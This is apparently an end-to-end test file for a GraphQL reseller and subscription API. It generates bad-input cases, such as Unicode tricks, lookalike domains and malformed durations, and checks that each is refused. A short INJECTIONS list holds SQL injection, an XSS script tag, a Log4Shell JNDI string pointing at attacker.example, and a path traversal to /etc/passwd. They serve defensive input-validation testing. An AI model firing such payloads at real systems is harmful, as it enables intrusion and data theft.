import { readFileSync } from 'node:fs';
import { MUTATION_ORDER } from './support/mutation-order';
import { join } from 'node:path';
import { domainToASCII } from 'node:url';
import { getMetadataStorage as validationMetadata } from 'class-validator';
import {
  buildSchema,
  getNamedType,
  type GraphQLInputObjectType,
  type GraphQLInputType,
  type GraphQLSchema,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { getMetadataStorage as graphqlMetadata } from 'type-graphql';
import { OffersDocument, RequestPartnershipDocument } from './generated/graphql';
import { createCustomer, createPartner, customerInput, type TestPartner, uniqueMpnId } from './support/factories';
import { invite, standaloneCustomer } from './support/invitations';
import { partner } from './support/partnerships';
import { startTestServer, type TestServer, UNBUDGETED } from './support/test-server';
import { createEndpoint, deliveries, startReceiver, until } from './support/webhooks';
import { approveAdmin, requestAdmin } from './support/admin-relationships';

/**
 * The bad-input corpus: for every mutation of the schema, a valid input (proved valid at the end,
 * when each one is sent once and must succeed), and from it, generated from the input's types,
 * one case per bad value of each field: wrong types, a missing or null required field, an unknown
 * field, out-of-range numbers, huge strings and lists, invisible, control, bidi and broken
 * Unicode text, implausible dates and injection strings in formatted fields. Each case must be
 * refused with BAD_USER_INPUT naming the field, never a 5xx, and must write no row.
 */
const schema: GraphQLSchema = buildSchema(readFileSync(join(__dirname, '..', 'schema', 'schema.graphql'), 'utf8'));

type Json = Record<string, unknown>;
interface MutationSpec {
  token: () => string;
  input: () => Json;
}

let t: TestServer;
let receiver: Awaited<ReturnType<typeof startReceiver>>;
let specs: Record<string, MutationSpec>;
/** what the final control run sends, in an order where each valid input still applies */
const CONTROL_ORDER = MUTATION_ORDER;

beforeAll(async () => {
  // the test clock on: advanceTestClock checks its input only where it may move the clock
  // the per-minute cost budgets raised: each case reads the state before and after, hundreds of reads
  // by one caller (test/budgets.e2e.test.ts tests the budgets)
  t = await startTestServer({ TEST_CLOCK: 'true', ...UNBUDGETED });
  const operator = await t.tokens.operator();
  const direct = await createPartner(t, 'DIRECT_RESELLER');
  const provider = await createPartner(t, 'INDIRECT_PROVIDER');
  const reseller = await createPartner(t, 'INDIRECT_RESELLER');
  const secondReseller = await createPartner(t, 'INDIRECT_RESELLER');
  const partnershipId = await partner(t, provider, reseller);
  const customer = await createCustomer(t, direct.token);
  const { offers } = await t.client(operator).data(OffersDocument);
  const offerId = offers.find((o) => o.maxQuantity >= 2 && o.minQuantity <= 1)!.id;
  const toAccept = await invite(t, direct.token, true);
  const toDecline = await invite(t, direct.token, true);
  const toRevoke = await invite(t, direct.token, true);
  const accepting = await standaloneCustomer(t);
  const declining = await standaloneCustomer(t);
  const requests = t.client(provider.token);
  const toAcceptRequest = (await requests.data(RequestPartnershipDocument, { input: { resellerEmail: 'a@reseller.example' } })).requestPartnership;
  const toRevokeRequest = (await requests.data(RequestPartnershipDocument, { input: { resellerEmail: 'b@reseller.example' } })).requestPartnership;
  const subscription = await t.client(direct.token).raw<{ createSubscription: { subscription: { id: string } } }>({
    query: 'mutation ($input: CreateSubscriptionInput!) { createSubscription(input: $input) { subscription { id } } }',
    variables: { input: { customerId: customer.id, offerId, quantity: 1 } },
  });
  const subscriptionId = subscription.data!.createSubscription.subscription.id;
  // one subscription for each lifecycle mutation, in the state its valid input needs
  const sell = (input: Json = {}) => sellTo(direct.token, customer.id, { offerId, quantity: 1, ...input });
  const toRenewOrNot = await sell();
  const toSchedule = await sell();
  const withScheduledChange = await sell();
  await lifecycle(direct.token, 'scheduleSubscriptionChange', { subscriptionId: withScheduledChange, quantity: 2 });
  const toSuspend = await sell();
  const suspended = await sell();
  await lifecycle(direct.token, 'suspendSubscription', { subscriptionId: suspended, reason: 'Unpaid invoice' });
  const toCancel = await sell();
  const toUpgrade = await sell();
  const upgradeTarget = await upgradeTargetOf(offerId);
  // a webhook endpoint with one delivered event (settled before the corpus counts rows)
  receiver = await startReceiver([200]);
  const webhook = await createEndpoint(t, direct.token, receiver.url, ['INVITATION_REVOKED']);
  const hookCustomer = await invite(t, direct.token, true);
  await t.client(direct.token).raw({
    query: 'mutation ($input: RevokeCustomerInvitationInput!) { revokeCustomerInvitation(input: $input) { invitation { id } } }',
    variables: { input: { invitationId: hookCustomer.invitation.id } },
  });
  // admin relationships: one to approve, one to reject (each by its own customer), an active one to extend and
  // update, and two to terminate
  const adminToApprove = await requestAdmin(t, direct.token);
  const adminToReject = await requestAdmin(t, direct.token);
  const adminApprover = await standaloneCustomer(t);
  const adminRejecter = await standaloneCustomer(t);
  const adminCustomer = await standaloneCustomer(t);
  const adminActive = await approveAdmin(t, adminCustomer.token, (await requestAdmin(t, direct.token, { duration: 'P30D' })).token);
  const adminToTerminate = (await requestAdmin(t, direct.token)).adminRelationship;
  const adminBulk = [(await requestAdmin(t, direct.token)).adminRelationship.id, (await requestAdmin(t, direct.token)).adminRelationship.id];
  // account details and a partner's profile (a partner without ties: the operator may change its type too)
  const toUpdate = await createPartner(t, 'DIRECT_RESELLER');
  // the customer's users (the direct reseller created it: it holds delegated admin privileges), and a subscription
  // for their licences: one user to update, one to give a licence, one holding a licence, one to delete, a deleted one
  const licences = await sell({ quantity: 2 });
  const userToUpdate = await newUser(direct.token, customer.id, `update@${customer.domain}`);
  const licensee = await newUser(direct.token, customer.id, `licensee@${customer.domain}`);
  const holder = await newUser(direct.token, customer.id, `holder@${customer.domain}`);
  await lifecycle(direct.token, 'assignLicenses', { userId: holder, subscriptionIds: [licences] });
  const userToDelete = await newUser(direct.token, customer.id, `delete@${customer.domain}`);
  const deletedUser = await newUser(direct.token, customer.id, `deleted@${customer.domain}`);
  await lifecycle(direct.token, 'deleteCustomerUser', { userId: deletedUser });
  const delivered = await until(
    'a delivery',
    () => deliveries(t, direct.token, webhook.endpoint.id),
    (d) => d.deliveries[0]?.status === 'SUCCEEDED',
  );

  specs = {
    createPartner: {
      token: () => operator,
      input: () => ({ name: 'Corpus Partner Ltd', mpnId: uniqueMpnId(), type: 'DIRECT_RESELLER', cloud: 'PUBLIC', contactEmail: 'corpus@partner.example' }),
    },
    createCustomer: {
      token: () => direct.token,
      input: () => ({ ...customerInput(), cloud: 'PUBLIC', externalId: 'CORPUS-CRM-NEW', subscriptions: [{ offerId, quantity: 1 }] }),
    },
    // every field given, so that each nested one gets its cases
    updatePartner: {
      token: () => operator,
      input: () => ({
        partnerId: toUpdate.id,
        name: 'Corpus Renamed Partner Ltd',
        contactEmail: 'renamed@partner.example',
        mpnId: uniqueMpnId(),
        type: 'INDIRECT_RESELLER',
        cloud: 'PUBLIC',
      }),
    },
    updateCustomer: {
      token: () => direct.token,
      input: () => ({
        customerId: customer.id,
        companyName: 'Northwind Traders Incorporated',
        address: { addressLine1: '1 Microsoft Way', addressLine2: 'Building 92', city: 'Redmond', state: 'WA', postalCode: '98052', country: 'US' },
        primaryContact: { firstName: 'Nancy', lastName: 'Davolio', email: 'nancy@northwind.example', phoneNumber: '+1 425 555 0100' },
        billingContact: { firstName: 'Andrew', lastName: 'Fuller', email: 'billing@northwind.example', phoneNumber: '+1 425 555 0101' },
        externalId: 'CORPUS-CRM-UPD',
      }),
    },
    createCustomerUser: {
      token: () => direct.token,
      input: () => ({
        customerId: customer.id,
        userName: `corpus.user@${customer.domain}`,
        displayName: 'Corpus User',
        firstName: 'Corpus',
        lastName: 'User',
        roles: ['HELPDESK_ADMINISTRATOR'],
      }),
    },
    updateCustomerUser: {
      token: () => direct.token,
      input: () => ({ userId: userToUpdate, displayName: 'Updated User', firstName: 'Updated', lastName: 'User', roles: ['DIRECTORY_READER'] }),
    },
    // subscriptionIds: a number instead of a list is coerced to a list of one id, which must still be refused as no
    // subscription id (bugs-corpora.md, 1: answered NOT_FOUND until the ids are IsUUID)
    assignLicenses: { token: () => direct.token, input: () => ({ userId: licensee, subscriptionIds: [licences] }) },
    unassignLicenses: { token: () => direct.token, input: () => ({ userId: holder, subscriptionIds: [licences] }) },
    deleteCustomerUser: { token: () => direct.token, input: () => ({ userId: userToDelete }) },
    restoreCustomerUser: { token: () => direct.token, input: () => ({ userId: deletedUser }) },
    createCustomerInvitation: {
      token: () => direct.token,
      input: () => ({ includeDelegatedAdminPrivileges: true, customerEmail: 'it@customer.example' }),
    },
    acceptCustomerInvitation: { token: () => accepting.token, input: () => ({ token: toAccept.token }) },
    declineCustomerInvitation: { token: () => declining.token, input: () => ({ token: toDecline.token }) },
    revokeCustomerInvitation: { token: () => direct.token, input: () => ({ invitationId: toRevoke.invitation.id }) },
    removeCustomerRelationship: { token: () => direct.token, input: () => ({ customerId: customer.id, attestation: true }) },
    // the accepting customer gets DAP from the direct reseller when it accepts (the control run accepts first)
    revokeDelegatedAdminPrivileges: { token: () => accepting.token, input: () => ({ partnerId: direct.id }) },
    requestPartnership: { token: () => provider.token, input: () => ({ resellerEmail: 'c@reseller.example' }) },
    acceptPartnershipRequest: { token: () => secondReseller.token, input: () => ({ token: toAcceptRequest.token }) },
    revokePartnershipRequest: { token: () => provider.token, input: () => ({ requestId: toRevokeRequest.request.id }) },
    removePartnership: { token: () => provider.token, input: () => ({ partnershipId, confirm: true, attestation: true }) },
    createSubscription: { token: () => direct.token, input: () => ({ customerId: customer.id, offerId, quantity: 1, externalId: 'CORPUS-SUB-NEW' }) },
    updateSubscription: { token: () => direct.token, input: () => ({ subscriptionId, quantity: 2 }) },
    setSubscriptionExternalId: { token: () => direct.token, input: () => ({ subscriptionId, externalId: 'CORPUS-SUB-SET' }) },
    createWebhookEndpoint: {
      token: () => direct.token,
      input: () => ({ url: 'https://hooks.example.test/partner', eventTypes: ['CUSTOMER_CREATED'], description: 'Billing system' }),
    },
    updateWebhookEndpoint: {
      token: () => direct.token,
      input: () => ({ endpointId: webhook.endpoint.id, url: receiver.url, eventTypes: ['INVITATION_REVOKED'], enabled: true, description: 'CRM' }),
    },
    redeliverWebhook: { token: () => direct.token, input: () => ({ deliveryId: delivered.deliveries[0].id }) },
    deleteWebhookEndpoint: { token: () => direct.token, input: () => ({ endpointId: webhook.endpoint.id }) },
    createAdminRelationship: {
      token: () => direct.token,
      input: () => ({
        customerId: customer.id,
        displayName: 'Corpus helpdesk',
        roles: ['HELPDESK_ADMINISTRATOR', 'USER_ADMINISTRATOR'],
        duration: 'P90D',
        autoExtend: true,
      }),
    },
    approveAdminRelationship: { token: () => adminApprover.token, input: () => ({ token: adminToApprove.token }) },
    rejectAdminRelationship: { token: () => adminRejecter.token, input: () => ({ token: adminToReject.token }) },
    terminateAdminRelationship: { token: () => direct.token, input: () => ({ adminRelationshipId: adminToTerminate.id }) },
    updateAdminRelationship: { token: () => direct.token, input: () => ({ adminRelationshipId: adminActive.id, autoExtend: true }) },
    terminateAdminRelationships: { token: () => direct.token, input: () => ({ adminRelationshipIds: adminBulk }) },
    extendAdminRelationships: { token: () => direct.token, input: () => ({ adminRelationshipIds: [adminActive.id] }) },
    setSubscriptionAutoRenew: { token: () => direct.token, input: () => ({ subscriptionId: toRenewOrNot, autoRenew: false }) },
    scheduleSubscriptionChange: {
      token: () => direct.token,
      input: () => ({ subscriptionId: toSchedule, quantity: 2, termDuration: 'P1Y', billingFrequency: 'ANNUAL', offerId: upgradeTarget }),
    },
    cancelScheduledSubscriptionChange: { token: () => direct.token, input: () => ({ subscriptionId: withScheduledChange }) },
    suspendSubscription: { token: () => direct.token, input: () => ({ subscriptionId: toSuspend, reason: 'Payment overdue since March' }) },
    reactivateSubscription: { token: () => direct.token, input: () => ({ subscriptionId: suspended }) },
    cancelSubscription: { token: () => direct.token, input: () => ({ subscriptionId: toCancel, reason: 'Bought by mistake' }) },
    upgradeSubscription: {
      token: () => direct.token,
      input: () => ({ subscriptionId: toUpgrade, targetOfferId: upgradeTarget, quantity: 2, termDuration: 'P1M', billingFrequency: 'MONTHLY' }),
    },
    advanceTestClock: { token: () => operator, input: () => ({ by: 'PT1H' }) },
  };
});

/** The first offer a subscription to `offerId` may be upgraded to. */
async function upgradeTargetOf(offerId: string): Promise<string> {
  const res = await t.client(await t.tokens.operator()).raw<{ offers: { id: string; upgradeTargets: { id: string }[] }[] }>({
    query: '{ offers { id upgradeTargets { id } } }',
  });
  return res.data!.offers.find((o) => o.id === offerId)!.upgradeTargets[0].id;
}

/** Sells a subscription as `token`; its id. */
async function sellTo(token: string, customerId: string, input: Json): Promise<string> {
  const res = await t.client(token).raw<{ createSubscription: { subscription: { id: string } } }>({
    query: 'mutation ($input: CreateSubscriptionInput!) { createSubscription(input: $input) { subscription { id } } }',
    variables: { input: { customerId, ...input } },
  });
  if (res.errors) throw new Error(`createSubscription: ${JSON.stringify(res.errors)}`);
  return res.data!.createSubscription.subscription.id;
}

/** Creates a user of the customer as `token`; its id. */
async function newUser(token: string, customerId: string, userName: string, more: Json = {}): Promise<string> {
  const res = await t.client(token).raw<{ createCustomerUser: { user: { id: string } } }>({
    query: 'mutation ($input: CreateCustomerUserInput!) { createCustomerUser(input: $input) { user { id } } }',
    variables: { input: { customerId, userName, displayName: userName.split('@')[0], ...more } },
  });
  if (res.errors) throw new Error(`createCustomerUser: ${JSON.stringify(res.errors)}`);
  return res.data!.createCustomerUser.user.id;
}

/** One lifecycle mutation that must succeed (the setup's). */
async function lifecycle(token: string, mutation: string, input: Json): Promise<void> {
  const res = await send(mutation, token, input);
  if (res.errors) throw new Error(`${mutation}: ${JSON.stringify(res.errors)}`);
}

afterAll(async () => {
  await t?.stop();
  await receiver?.stop();
});

// ---- the generator ----------------------------------------------------------------------------

/** Fields where any well-formed text is valid (so an injection string there is just text). */
const FREE_TEXT = new Set([
  'name',
  'companyName',
  'addressLine1',
  'addressLine2',
  'city',
  'state',
  'firstName',
  'lastName',
  'signatoryName',
  'token',
  'offerId',
  'description',
  'displayName',
  // why a subscription was cancelled or suspended: any one line of text
  'reason',
  // a partner's own id for a record (its CRM's): any one line of visible text
  'externalId',
]);
const TEXT_CASES: [string, string][] = [
  ['a NUL character only', '\u0000'],
  ['zero-width spaces only', '\u200B\u200B\u200B'],
  ['whitespace only', ' \u00A0\u3000 '],
  ['a CRLF inside', 'First line\r\nSecond line'],
  ['a bidi override', 'Contoso \u202Egnp.exe'],
  ['a lone surrogate', 'Broken \uD800 text'],
  ['a C1 control character', 'Name\u0085Name'],
  ['a 100,000-character string', 'x'.repeat(100_000)],
  ['a U+2028 line separator inside', 'First line\u2028Second line'],
  ['a U+2029 paragraph separator inside', 'First paragraph\u2029Second paragraph'],
  // 2,002 code points (what a utf8mb4 column counts) that validator.js's isLength counts as 1,001
  ['1,001 × "a" + VS16 (2,002 code points)', 'a\uFE0F'.repeat(1001)],
];
const INJECTIONS = ["' OR '1'='1", '1; DROP TABLE partner; --', '<script>alert(1)</script>', '${jndi:ldap://attacker.example/a}', '../../etc/passwd'];

interface Case {
  mutation: string;
  field: string;
  what: string;
  /** changes a fresh valid input into the bad one */
  apply: (input: Json) => void;
}

function setAt(target: Json, path: (string | number)[], value: unknown, remove = false) {
  let node = target as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (remove) delete node[last];
  else node[last] = value;
}

function pathName(path: (string | number)[]): string {
  return path.reduce<string>((out, key) => (typeof key === 'number' ? `${out}[${key}]` : `${out}.${key}`), 'input');
}

/** The bad values for one field of an input, by its type. */
function badValues(type: GraphQLInputType, fieldName: string): [string, unknown][] {
  const named = getNamedType(type);
  const out: [string, unknown][] = [];
  if (isListType(isNonNullType(type) ? type.ofType : type)) {
    out.push(['a list of 1,000 elements', 'LIST_OF_1000'], ['a number instead of a list', 7]);
    return out;
  }
  if (isInputObjectType(named))
    return [
      ['a string instead of an object', 'not an object'],
      ['a number instead of an object', 12],
    ];
  if (isEnumType(named))
    return [
      ['an unknown enum value', 'NOT_A_VALUE'],
      ['a lowercase enum value', (named.getValues()[0].value as string).toLowerCase()],
      ['a number', 3],
    ];
  if (isScalarType(named)) {
    switch (named.name) {
      case 'Int':
        return [
          ['a string', 'many'],
          ['a fraction', 1.5],
          ['2^31 (out of range)', 2 ** 31],
          ['zero', 0],
          ['a negative number', -5],
        ];
      case 'Boolean':
        return [
          ['the string "true"', 'true'],
          ['the number 1', 1],
        ];
      case 'DateTimeISO':
        return [
          ['not a date', 'yesterday'],
          ['the year 0001', '0001-01-01T00:00:00.000Z'],
          ['a date in the future', '2999-01-01T00:00:00.000Z'],
          ['a number', 12345],
        ];
      case 'ID':
        // an id is a UUID or a slug in any letter case (src/common/ids.ts): anything else is refused, offerId too
        return [
          ['an object', { $ne: null }],
          ['a boolean', true],
          ['a fraction', 1.5],
          ...TEXT_CASES.map(([what, value]): [string, unknown] => [what, value]),
          ...INJECTIONS.map((s): [string, unknown] => [`the injection string ${s}`, s]),
          ['an empty string', ''],
          ['65 characters', 'a'.repeat(65)],
          ['a UUID with a space inside', '0190a5b2-7c3d 7e4f-8a9b-0c1d2e3f4a5b'],
          ['a UUID with a Cyrillic letter', '0190\u04305b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b'],
          ['the Kelvin sign (k in lower case)', 'm365-\u212Aelvin'],
          ['full-width letters', '\uFF4D365-business-basic'],
          ['a double hyphen', 'm365--business-basic'],
        ];
      case 'String': {
        out.push(['an object', { $ne: null }], ['a boolean', true]);
        if (named.name === 'String') out.push(['a number', 42]);
        out.push(...TEXT_CASES.map(([what, value]): [string, unknown] => [what, value]));
        if (!FREE_TEXT.has(fieldName)) out.push(...INJECTIONS.map((s): [string, unknown] => [`the injection string ${s}`, s]));
        return out;
      }
    }
  }
  throw new Error(`no bad values for type ${String(type)}`);
}

/** The length limit of an input field (MaxCodePoints, src/common/validation.ts, or a MaxLength), from the server's validation metadata. */
function codePointLimit(typeName: string, fieldName: string): number | undefined {
  const cls = graphqlMetadata().inputTypes.find((c) => c.name === typeName);
  if (!cls) return undefined;
  const rules = validationMetadata().getTargetValidationMetadatas(cls.target, '', true, false);
  return rules.find((r) => r.propertyName === fieldName && (r.name === 'maxCodePoints' || r.name === 'maxLength'))?.constraints[0] as number | undefined;
}

/** Tenant domains that look like an ASCII one, or are punycode of one that is refused (src/common/validation.ts). */
const DOMAIN_CASES: [string, string][] = [
  ['a zero-width space inside', 'con\u200Btoso.onmicrosoft.com'],
  ['a Cyrillic а for the Latin a', 'f\u0430brikam.onmicrosoft.com'],
  ['a combining mark', 'fabri\u0307kam.onmicrosoft.com'],
  ['full-width letters', '\uFF43\uFF4F\uFF4E\uFF54\uFF4F\uFF53\uFF4F.onmicrosoft.com'],
  ['punycode mixing Latin and Cyrillic', domainToASCII('cont\u043Eso.example')],
  ['punycode that does not decode', 'xn--zz.example'],
];

/**
 * Cases of the text rules that depend on the field: one code point over the field's limit, in a text
 * that validator.js's isLength counts as half (each "a" + VS16 is 2 code points, 1 for it), and the
 * look-alike tenant domains for a `domain`.
 */
function textRuleCases(mutation: string, typeName: string, fieldName: string, path: (string | number)[], field: string): Case[] {
  const cases: Case[] = [];
  const limit = codePointLimit(typeName, fieldName);
  if (limit !== undefined) {
    const value = 'a\uFE0F'.repeat(Math.ceil((limit + 1) / 2));
    cases.push({ mutation, field, what: `${[...value].length} code points (its limit is ${limit})`, apply: (input) => setAt(input, path, value) });
  }
  if (fieldName === 'domain') {
    for (const [what, value] of DOMAIN_CASES) cases.push({ mutation, field, what: `a domain with ${what}`, apply: (input) => setAt(input, path, value) });
  }
  return cases;
}

/** Every case of one mutation: each field's bad values, each required field missing or null, an unknown field. */
function casesFor(mutation: string, inputType: GraphQLInputObjectType, valid: Json, prefix: (string | number)[] = []): Case[] {
  const cases: Case[] = [];
  for (const field of Object.values(inputType.getFields())) {
    const path = [...prefix, field.name];
    const field_ = pathName(path);
    const named = getNamedType(field.type);
    const present = valid[field.name] !== undefined;
    if (isNonNullType(field.type)) {
      cases.push({ mutation, field: field_, what: 'missing', apply: (input) => setAt(input, path, undefined, true) });
      cases.push({ mutation, field: field_, what: 'null', apply: (input) => setAt(input, path, null) });
    }
    cases.push(...textRuleCases(mutation, inputType.name, field.name, path, field_));
    for (const [what, value] of badValues(field.type, field.name)) {
      cases.push({
        mutation,
        field: field_,
        what,
        apply: (input) => {
          const current = path.reduce<unknown>((node, key) => (node as Json)?.[key as string], input);
          setAt(input, path, value === 'LIST_OF_1000' ? Array.from({ length: 1000 }, (): unknown => (Array.isArray(current) ? current[0] : current)) : value);
        },
      });
    }
    // nested inputs (and the first element of a list of inputs) get their own field cases
    if (isInputObjectType(named) && present) {
      const nested = valid[field.name];
      if (Array.isArray(nested)) cases.push(...casesFor(mutation, named, nested[0] as Json, [...path, 0]));
      else cases.push(...casesFor(mutation, named, nested as Json, path));
    }
  }
  if (!prefix.length) cases.push({ mutation, field: 'input.bogus', what: 'an unknown field', apply: (input) => (input.bogus = 1) });
  return cases;
}

function inputTypeOf(mutation: string): GraphQLInputObjectType {
  const arg = schema
    .getMutationType()!
    .getFields()
    [mutation].args.find((a) => a.name === 'input')!;
  return getNamedType(arg.type) as GraphQLInputObjectType;
}

async function rowCounts(): Promise<string> {
  const counts = await Promise.all(
    t.server.ds.entityMetadatas.map(
      async (m) => `${m.tableName}=${(await t.server.ds.query<{ n: number | string }[]>(`SELECT COUNT(*) AS n FROM ${m.tableName}`))[0].n}`,
    ),
  );
  return counts.join(' ');
}

const send = (mutation: string, token: string, input: unknown) =>
  t.client(token).raw({ query: `mutation ($input: ${inputTypeOf(mutation).name}!) { ${mutation}(input: $input) { __typename } }`, variables: { input } });

// ---- the tests ---------------------------------------------------------------------------------

it('has a valid input for every mutation of the schema', () => {
  const mutations = Object.keys(schema.getMutationType()!.getFields()).sort();
  expect(Object.keys(specs).sort()).toEqual(mutations);
  expect([...CONTROL_ORDER].sort()).toEqual(mutations);
});

it('refuses every generated bad input with BAD_USER_INPUT naming the field, no 5xx, and no row written', async () => {
  const cases = Object.keys(specs).flatMap((mutation) => casesFor(mutation, inputTypeOf(mutation), specs[mutation].input()));
  expect(cases.length).toBeGreaterThanOrEqual(200);
  const failures: unknown[] = [];
  let before = await rowCounts();
  for (const c of cases) {
    const input = specs[c.mutation].input();
    c.apply(input);
    const res = await send(c.mutation, specs[c.mutation].token(), input);
    const error = res.errors?.[0];
    const after = await rowCounts();
    const ok =
      res.status < 500 &&
      !res.data?.[c.mutation as never] &&
      error?.extensions?.code === 'BAD_USER_INPUT' &&
      Array.isArray(error.extensions.fields) &&
      error.extensions.fields.includes(c.field) &&
      error.message.length < 2000 &&
      after === before;
    if (!ok)
      failures.push({
        case: `${c.mutation} ${c.field}: ${c.what}`,
        status: res.status,
        error: error && { ...error, message: error.message.slice(0, 300) },
        wrote: after !== before,
      });
    before = after;
  }
  console.log(`bad-input corpus: ${cases.length} cases over ${Object.keys(specs).length} mutations`);
  expect(failures).toEqual([]);
  // over a thousand cases, each followed by a row count of every table: a minute or more on MariaDB
}, 300_000);

/**
 * The subscription lifecycle's own bad values, beyond the generated ones: quantities that are negative,
 * huge or not integers, terms that do not exist or that the offer is not sold for (azure-plan: P1M
 * MONTHLY only), reasons too long or breaking the text rules, and test clock moves that are not a
 * forward duration of at most 10 years. Each is BAD_USER_INPUT naming the field, and changes nothing:
 * no subscription row differs, no audit record or event is added, the clock has not moved.
 */
describe('the subscription lifecycle', () => {
  let seller: string;
  let customerId: string;
  let operator: string;
  let basic: string;
  let azure: string;
  let target: string;
  const BASIC = 'm365-business-basic';
  const AZURE = 'azure-plan';

  beforeAll(async () => {
    operator = await t.tokens.operator();
    const p = await createPartner(t, 'DIRECT_RESELLER');
    seller = p.token;
    customerId = (await createCustomer(t, seller)).id;
    basic = await sellTo(seller, customerId, { offerId: BASIC, quantity: 3 });
    azure = await sellTo(seller, customerId, { offerId: AZURE, quantity: 1 });
    target = await upgradeTargetOf(BASIC);
  });

  const QUANTITIES: [string, unknown][] = [
    ['-1', -1],
    ['0', 0],
    ['2147483647 (the largest Int)', 2147483647],
    ['2147483648 (past the largest Int)', 2147483648],
    ['1e9', 1e9],
    ['the string "5"', '5'],
    ['5.5', 5.5],
  ];
  const TERMS: [string, unknown][] = [
    ['P2Y (no such term)', 'P2Y'],
    ['p1m (lower case)', 'p1m'],
    ['P1m', 'P1m'],
    ['a number', 1],
  ];
  const FREQUENCIES: [string, unknown][] = [
    ['WEEKLY (no such frequency)', 'WEEKLY'],
    ['annual (lower case)', 'annual'],
  ];
  const REASONS: [string, string][] = [
    ['501 characters', 'r'.repeat(501)],
    ['502 code points that UTF-16 counts as 502 and validator.js as 251', 'a\uFE0F'.repeat(251)],
    ['a NUL character', 'Unpaid\u0000invoice'],
    ['a BEL character', 'Unpaid invoice\u0007'],
    ['an ANSI escape sequence', '\u001B[31mUnpaid invoice\u001B[0m'],
    ['a DEL character', 'Unpaid\u007Finvoice'],
    ['a C1 control character', 'Unpaid\u0085invoice'],
    ['a CRLF inside', 'Unpaid invoice\r\nSecond line'],
    ['zero-width characters only', '\u200B\u200C\u200D'],
    ['a byte order mark only', '\uFEFF'],
    ['no-break and ideographic spaces only', ' \u00A0\u3000 '],
    ['a right-to-left override', 'Refund for invoice \u202Efdp.exe'],
    ['a left-to-right isolate', 'Refund \u2066for\u2069 invoice'],
    ['a lone surrogate', 'Unpaid \uD800 invoice'],
  ];
  const DURATIONS: [string, unknown][] = [
    ['words', 'eight days'],
    ['no leading P', '8D'],
    ['P alone', 'P'],
    ['PT alone', 'PT'],
    ['a negative duration', '-P1D'],
    ['a negative part', 'P-1D'],
    ['zero days', 'P0D'],
    ['zero seconds', 'PT0S'],
    ['11 years', 'P11Y'],
    ['10 years and a day', 'P10Y1D'],
    ['121 months', 'P121M'],
    ['4,000 days', 'P4000D'],
    ['a date', '2030-01-01T00:00:00.000Z'],
    ['an empty string', ''],
    ['a number', 8],
  ];

  interface LifecycleCase {
    what: string;
    mutation: string;
    field: string;
    token: () => string;
    input: () => Json;
  }

  function cases(): LifecycleCase[] {
    const out: LifecycleCase[] = [];
    const add = (mutation: string, field: string, what: string, input: () => Json, token = () => seller) => out.push({ mutation, field, what, input, token });
    for (const [what, quantity] of QUANTITIES) {
      add('createSubscription', 'input.quantity', `quantity ${what}`, () => ({ customerId, offerId: BASIC, quantity }));
      add('createCustomer', 'input.subscriptions[0].quantity', `quantity ${what}`, () => ({
        ...customerInput(),
        subscriptions: [{ offerId: BASIC, quantity }],
      }));
      add('updateSubscription', 'input.quantity', `quantity ${what}`, () => ({ subscriptionId: basic, quantity }));
      add('scheduleSubscriptionChange', 'input.quantity', `quantity ${what}`, () => ({ subscriptionId: basic, quantity }));
      add('upgradeSubscription', 'input.quantity', `quantity ${what}`, () => ({ subscriptionId: basic, targetOfferId: target, quantity }));
    }
    for (const [what, termDuration] of TERMS) {
      add('createSubscription', 'input.termDuration', `term ${what}`, () => ({ customerId, offerId: BASIC, quantity: 1, termDuration }));
      add('createCustomer', 'input.subscriptions[0].termDuration', `term ${what}`, () => ({
        ...customerInput(),
        subscriptions: [{ offerId: BASIC, quantity: 1, termDuration }],
      }));
      add('scheduleSubscriptionChange', 'input.termDuration', `term ${what}`, () => ({ subscriptionId: basic, termDuration }));
      add('upgradeSubscription', 'input.termDuration', `term ${what}`, () => ({ subscriptionId: basic, targetOfferId: target, termDuration }));
    }
    for (const [what, billingFrequency] of FREQUENCIES) {
      add('createSubscription', 'input.billingFrequency', `billing ${what}`, () => ({
        customerId,
        offerId: BASIC,
        quantity: 1,
        termDuration: 'P1Y',
        billingFrequency,
      }));
      add('scheduleSubscriptionChange', 'input.billingFrequency', `billing ${what}`, () => ({ subscriptionId: basic, billingFrequency }));
      add('upgradeSubscription', 'input.billingFrequency', `billing ${what}`, () => ({ subscriptionId: basic, targetOfferId: target, billingFrequency }));
    }
    // terms the offer is not sold for (azure-plan: P1M billed MONTHLY only; the others' P1M term: billed MONTHLY only)
    add('createSubscription', 'input.termDuration', 'azure-plan for P1Y', () => ({ customerId, offerId: AZURE, quantity: 1, termDuration: 'P1Y' }));
    add('createSubscription', 'input.termDuration', 'azure-plan for P3Y billed TRIENNIAL', () => ({
      customerId,
      offerId: AZURE,
      quantity: 1,
      termDuration: 'P3Y',
      billingFrequency: 'TRIENNIAL',
    }));
    add('createSubscription', 'input.billingFrequency', 'azure-plan for P1M billed ANNUAL', () => ({
      customerId,
      offerId: AZURE,
      quantity: 1,
      termDuration: 'P1M',
      billingFrequency: 'ANNUAL',
    }));
    add('createSubscription', 'input.billingFrequency', 'azure-plan billed ANNUAL (its default term)', () => ({
      customerId,
      offerId: AZURE,
      quantity: 1,
      billingFrequency: 'ANNUAL',
    }));
    add('createSubscription', 'input.billingFrequency', `${BASIC} for P1M billed TRIENNIAL`, () => ({
      customerId,
      offerId: BASIC,
      quantity: 1,
      termDuration: 'P1M',
      billingFrequency: 'TRIENNIAL',
    }));
    add('createCustomer', 'input.subscriptions[0].termDuration', 'an order line of azure-plan for P1Y', () => ({
      ...customerInput(),
      subscriptions: [{ offerId: AZURE, quantity: 1, termDuration: 'P1Y' }],
    }));
    add('createCustomer', 'input.subscriptions[0].billingFrequency', 'an order line of azure-plan for P1M billed ANNUAL', () => ({
      ...customerInput(),
      subscriptions: [{ offerId: AZURE, quantity: 1, termDuration: 'P1M', billingFrequency: 'ANNUAL' }],
    }));
    add('scheduleSubscriptionChange', 'input.termDuration', 'azure-plan for P1Y', () => ({ subscriptionId: azure, termDuration: 'P1Y' }));
    add('scheduleSubscriptionChange', 'input.billingFrequency', 'azure-plan billed ANNUAL', () => ({ subscriptionId: azure, billingFrequency: 'ANNUAL' }));
    add('scheduleSubscriptionChange', 'input.billingFrequency', `${BASIC} for P1M billed ANNUAL`, () => ({
      subscriptionId: basic,
      termDuration: 'P1M',
      billingFrequency: 'ANNUAL',
    }));
